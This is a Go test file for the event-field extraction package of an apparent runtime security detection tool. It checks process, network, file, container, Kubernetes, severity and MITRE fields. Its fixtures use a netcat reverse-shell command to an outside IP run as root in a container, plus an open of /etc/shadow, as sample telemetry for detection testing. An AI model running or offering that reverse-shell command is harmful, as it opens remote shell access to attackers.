package field_test

import (
	"strings"
	"testing"
	"time"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/field"
)

func ptr[T any](v T) *T { return &v }

func execEvent() *cairn.Event {
	return &cairn.Event{
		ID: "tt-1", Source: cairn.SourceTetragon, Kind: cairn.KindExec, Type: "execve",
		Time: time.Date(2026, 11, 25, 10, 0, 0, 5, time.UTC), Host: "node-1",
		Process: &cairn.Process{ExecID: "e3", ParentExecID: "e2", PID: 300, PPID: 200, Binary: "/usr/bin/nc",
			Args: "104.199.23.243 9001 -e /bin/sh", Cwd: "/app", UID: ptr[int64](0), LoginUID: ptr[int64](4294967295)},
		Parent:    &cairn.Process{ExecID: "e2", PID: 200, Binary: "/bin/sh", Args: "-c nc 104.199.23.243 9001 -e /bin/sh"},
		Ancestors: []cairn.Process{{ExecID: "e1", PID: 100, Binary: "/usr/bin/java", Args: "-jar app.jar"}, {PID: 1, Name: "tini", Binary: "/sbin/tini"}},
		Container: &cairn.Container{ID: "19a02291e106", FullID: "19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4",
			Runtime: "containerd", Name: "app", Image: "registry:5000/shop/java-app:1.4@sha256:abc"},
		K8s: &cairn.K8s{Cluster: "prod-eks", Namespace: "shop", Pod: "java-app-7d9", Labels: map[string]string{"app": "java", "tier": "web"}},
	}
}

func get(t *testing.T, ev *cairn.Event, name string) (any, bool) {
	t.Helper()
	ref, err := field.Lookup(name)
	if err != nil {
		t.Fatalf("Lookup(%q): %v", name, err)
	}
	return ref.Get(ev)
}

func TestRuntimeFields(t *testing.T) {
	ev := execEvent()
	want := map[string]any{
		"evt.type":                   "execve",
		"evt.hostname":               "node-1",
		"host.hostName":              "node-1",
		"evt.source":                 "syscall",
		"evt.time":                   ev.Time,
		"proc.name":                  "nc",
		"proc.exepath":               "/usr/bin/nc",
		"proc.cmdline":               "nc 104.199.23.243 9001 -e /bin/sh",
		"proc.args":                  "104.199.23.243 9001 -e /bin/sh",
		"proc.pid":                   int64(300),
		"proc.ppid":                  int64(200),
		"proc.cwd":                   "/app",
		"proc.exec_id":               "e3",
		"user.uid":                   int64(0),
		"user.name":                  "root",
		"user.loginuid":              int64(-1),
		"proc.pname":                 "sh",
		"proc.pcmdline":              "sh -c nc 104.199.23.243 9001 -e /bin/sh",
		"proc.aname[0]":              "nc",
		"proc.aname[1]":              "sh",
		"proc.aname[2]":              "java",
		"proc.aname[3]":              "tini",
		"proc.apid[2]":               "100",
		"proc.acmdline[2]":           "java -jar app.jar",
		"container.id":               "19a02291e106",
		"container.image.repository": "registry:5000/shop/java-app",
		"container.image.tag":        "1.4",
		"container.image.digest":     "sha256:abc",
		"k8s.cluster.name":           "prod-eks",
		"kubernetes.cluster.name":    "prod-eks",
		"k8s.ns.name":                "shop",
		"kubernetes.namespace.name":  "shop",
		"k8s.pod.name":               "java-app-7d9",
		"k8s.pod.labels":             "app:java, tier:web",
		"k8s.pod.label[tier]":        "web",
	}
	for name, w := range want {
		got, ok := get(t, ev, name)
		if !ok {
			t.Errorf("%s missing, want %v", name, w)
			continue
		}
		if gt, isTime := got.(time.Time); isTime {
			if !gt.Equal(w.(time.Time)) {
				t.Errorf("%s = %v, want %v", name, got, w)
			}
			continue
		}
		if got != w {
			t.Errorf("%s = %#v, want %#v", name, got, w)
		}
	}
	anames, _ := get(t, ev, "proc.aname")
	if strings.Join(anames.([]string), ",") != "sh,java,tini" {
		t.Errorf("proc.aname = %v", anames)
	}
	for _, name := range []string{"proc.aname[4]", "fd.name", "fd.sip", "ct.name", "severity", "k8s.pod.label[missing]", "proc.tty", "container.privileged"} {
		if v, ok := get(t, ev, name); ok {
			t.Errorf("%s = %v, want missing", name, v)
		}
	}
}

func TestHostProcessIsContainerHost(t *testing.T) {
	ev := execEvent()
	ev.Container, ev.K8s = nil, nil
	if v, _ := get(t, ev, "container.id"); v != "host" {
		t.Errorf("container.id = %v, want host", v)
	}
}

func TestConnectionFields(t *testing.T) {
	out := execEvent()
	out.Kind, out.Type = cairn.KindNetwork, "connect"
	out.Net = &cairn.Conn{Op: "connect", Protocol: "TCP", SrcIP: "10.0.0.5", SrcPort: 40000, DstIP: "104.199.23.243", DstPort: 9001}
	in := execEvent()
	in.Net = &cairn.Conn{Op: "accept", Protocol: "tcp", SrcIP: "203.0.113.9", SrcPort: 51000, DstIP: "10.0.0.5", DstPort: 8080}
	cases := []struct {
		ev   *cairn.Event
		name string
		want any
	}{
		{out, "fd.sip", "104.199.23.243"}, {out, "fd.sport", int64(9001)}, {out, "fd.rip", "104.199.23.243"},
		{out, "fd.rport", int64(9001)}, {out, "fd.lport", int64(40000)}, {out, "fd.l4proto", "tcp"},
		{out, "fd.typechar", "4"}, {out, "fd.name", "10.0.0.5:40000->104.199.23.243:9001"},
		{in, "fd.rip", "203.0.113.9"}, {in, "fd.lport", int64(8080)}, {in, "fd.cip", "203.0.113.9"}, {in, "fd.sport", int64(8080)},
	}
	for _, c := range cases {
		if got, ok := get(t, c.ev, c.name); !ok || got != c.want {
			t.Errorf("%s (%s) = %#v, %v; want %#v", c.name, c.ev.Net.Op, got, ok, c.want)
		}
	}
}

func TestFileFields(t *testing.T) {
	ev := execEvent()
	ev.Kind, ev.Type = cairn.KindFile, "openat"
	ev.File = &cairn.File{Path: "/etc/shadow", Op: "open"}
	for name, want := range map[string]any{"fd.name": "/etc/shadow", "fd.directory": "/etc", "fd.filename": "shadow", "fd.typechar": "f",
		"evt.dir": "<"} {
		if got, ok := get(t, ev, name); !ok || got != want {
			t.Errorf("%s = %#v, want %#v", name, got, want)
		}
	}
	// An open whose flags the source does not report is neither a read
	// nor a write as far as cairn knows.
	for _, name := range []string{"evt.is_open_read", "evt.is_open_write", "fd.num", "evt.res", "evt.arg.flags"} {
		if got, ok := get(t, ev, name); ok {
			t.Errorf("%s = %#v on an open without flags or result, want absent", name, got)
		}
	}
	ev.File.Flags, ev.Res = "O_WRONLY|O_CREAT|O_TRUNC", ptr[int64](4)
	for name, want := range map[string]any{"evt.is_open_read": false, "evt.is_open_write": true, "fd.num": int64(4),
		"evt.res": "SUCCESS", "evt.rawres": int64(4), "evt.failed": false, "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC"} {
		if got, ok := get(t, ev, name); !ok || got != want {
			t.Errorf("%s = %#v, want %#v", name, got, want)
		}
	}
	ev.Res = ptr[int64](-13)
	for name, want := range map[string]any{"fd.num": int64(-1), "evt.res": "EACCES", "evt.failed": true} {
		if got, ok := get(t, ev, name); !ok || got != want {
			t.Errorf("failed open: %s = %#v, want %#v", name, got, want)
		}
	}
}

func TestLookupErrors(t *testing.T) {
	cases := map[string]string{
		"proc.nme":              "proc.name",
		"k8s.namespace":         "unknown field",
		"proc.name[1]":          "takes no argument",
		"proc.aname[x]":         "non-negative index",
		"k8s.pod.label":         "needs an argument",
		"json.value[eventName]": "JSON pointer",
	}
	for name, want := range cases {
		_, err := field.Lookup(name)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("Lookup(%q) = %v, want error containing %q", name, err, want)
			continue
		}
		if cairn.ErrorCode(err) != cairn.EINVALID {
			t.Errorf("Lookup(%q) code = %s", name, cairn.ErrorCode(err))
		}
	}
}

func TestSeverity(t *testing.T) {
	for _, c := range []struct {
		name string
		rank int64
	}{{"debug", 0}, {"Informational", 0}, {"info", 0}, {"notice", 1}, {"low", 1}, {"WARNING", 2}, {"medium", 2}, {"error", 3}, {"high", 3},
		{"critical", 4}, {"ALERT", 4}, {"emergency", 4}} {
		if r, ok := field.SeverityRank(c.name); !ok || r != c.rank {
			t.Errorf("SeverityRank(%q) = %d, %v; want %d", c.name, r, ok, c.rank)
		}
	}
	if _, ok := field.SeverityRank("bogus"); ok {
		t.Error("bogus severity accepted")
	}
}

func TestCatalogComplete(t *testing.T) {
	for _, f := range field.All() {
		if f.Desc == "" || f.Get == nil || f.Name == "" {
			t.Errorf("field %q incomplete", f.Name)
		}
	}
	flat := field.Flatten(execEvent())
	if flat["evt.time"] != "2026-11-25T10:00:00.000000005Z" {
		t.Errorf("flattened evt.time = %v", flat["evt.time"])
	}
	if _, ok := flat["proc.aname"]; !ok {
		t.Error("flatten lacks proc.aname list")
	}
	if _, ok := flat["ct.name"]; ok {
		t.Error("flatten has ct.name on a runtime event")
	}
}

func TestOpenFlags(t *testing.T) {
	ev := execEvent()
	for _, c := range []struct {
		file        cairn.File
		read, write bool
	}{
		{cairn.File{Path: "/etc/shadow", Op: "read"}, true, false},
		{cairn.File{Path: "/tmp/x", Op: "write"}, false, true},
		{cairn.File{Path: "/tmp/x", Op: "open", Flags: "O_RDWR|O_CREAT"}, true, true},
		{cairn.File{Path: "/tmp/x", Op: "open", Flags: "O_RDONLY"}, true, false},
	} {
		ev.File = &c.file
		r, _ := get(t, ev, "evt.is_open_read")
		w, _ := get(t, ev, "evt.is_open_write")
		if r != c.read || w != c.write {
			t.Errorf("%+v: read %v write %v, want %v %v", c.file, r, w, c.read, c.write)
		}
	}
	ev.File = nil
	if v, ok := get(t, ev, "evt.is_open_read"); ok {
		t.Errorf("evt.is_open_read on an exec = %v", v)
	}
}

func TestMitreFields(t *testing.T) {
	ev := execEvent()
	ev.Alert = &cairn.Alert{Rule: "Terminal shell in container", Priority: "Notice", Tags: []string{"container", "shell", "mitre_execution", "T1059"}}
	tac, _ := get(t, ev, "mitre.tactic")
	tech, _ := get(t, ev, "mitre.technique")
	if strings.Join(tac.([]string), ",") != "TA0002,execution" || strings.Join(tech.([]string), ",") != "T1059" {
		t.Errorf("mitre.tactic %v mitre.technique %v", tac, tech)
	}
	ev.Alert.Tags = []string{"container"}
	if v, ok := get(t, ev, "mitre.tactic"); ok {
		t.Errorf("mitre.tactic without ATT&CK tags = %v", v)
	}
}

func TestEvtNum(t *testing.T) {
	a, b := execEvent(), execEvent()
	b.ID = "tt-2"
	na, _ := get(t, a, "evt.num")
	nb, _ := get(t, b, "evt.num")
	if na.(int64) <= 0 || nb.(int64) <= 0 || na == nb {
		t.Errorf("evt.num %v %v", na, nb)
	}
	if again, _ := get(t, execEvent(), "evt.num"); again != na {
		t.Error("evt.num not stable")
	}
}

func TestSessionAndGroupFields(t *testing.T) {
	ev := execEvent()
	ev.Container, ev.K8s = nil, nil
	ev.Process.SID, ev.Process.PGID = ptr[int64](100), ptr[int64](300)
	for name, want := range map[string]any{"proc.sname": "java", "proc.pgid": int64(300), "proc.vpgid": int64(300), "proc.is_vpgid_leader": true} {
		if got, ok := get(t, ev, name); !ok || got != want {
			t.Errorf("%s = %#v, %v; want %#v", name, got, ok, want)
		}
	}
	ev.Process.SID, ev.Process.PGID = ptr[int64](7), ptr[int64](200)
	if got, ok := get(t, ev, "proc.sname"); ok {
		t.Errorf("proc.sname = %v with no ancestor leading the session", got)
	}
	if got, _ := get(t, ev, "proc.is_vpgid_leader"); got != false {
		t.Errorf("proc.is_vpgid_leader = %v, want false", got)
	}
	ev.Container = &cairn.Container{ID: "abc"}
	if got, ok := get(t, ev, "proc.vpgid"); ok {
		t.Errorf("proc.vpgid = %v in a container, want absent", got)
	}
}
